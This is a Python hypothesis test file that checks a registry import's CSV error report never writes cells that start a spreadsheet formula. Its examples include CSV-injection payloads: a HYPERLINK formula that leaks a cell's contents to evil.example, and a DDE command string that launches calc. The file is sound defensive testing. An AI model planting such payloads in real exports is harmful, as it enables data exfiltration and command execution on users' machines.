"""`import_coverage`'s error report repeats bad cells, but never as a spreadsheet formula."""

import csv
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from inquiries.importing import import_registry_file
from portal.csv_safety import FORMULA_STARTS
from tests.inquiries.test_import_coverage import SARA, person_row, write_file

TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
HOSTILE_GENDER = st.builds(
    lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), TEXT
).filter(lambda text: text.strip().upper() not in {"F", "M"})


@pytest.fixture(
    params=[
        pytest.param(False, id="portable"),
        pytest.param(True, id="copy", marks=pytest.mark.postgres),
    ]
)
def run_import(request, db):
    def run(kind: str, path: Path):
        return import_registry_file(kind=kind, path=path, use_copy=request.param)

    return run


def report_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


@hypothesis_settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(gender=HOSTILE_GENDER)
@example(gender='=HYPERLINK("https://evil.example/?"&A1,"Click")')
@example(gender="=cmd|' /C calc'!A0")
@example(gender="\r")
@example(gender="\r0")  # a bare carriage return inside a field once broke COPY
def test_no_cell_of_the_error_report_starts_a_formula(run_import, tmp_path, gender):
    path = write_file(tmp_path, "persons", [person_row(SARA, gender=gender)])

    summary = run_import("persons", path)

    assert summary.error_report is not None
    cells = report_cells(summary.error_report)
    # The operator still sees what was wrong (as the import read it: the COPY path, like a
    # spreadsheet, takes a lone carriage return for the end of the line).
    assert any(gender.strip() in cell for cell in cells)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
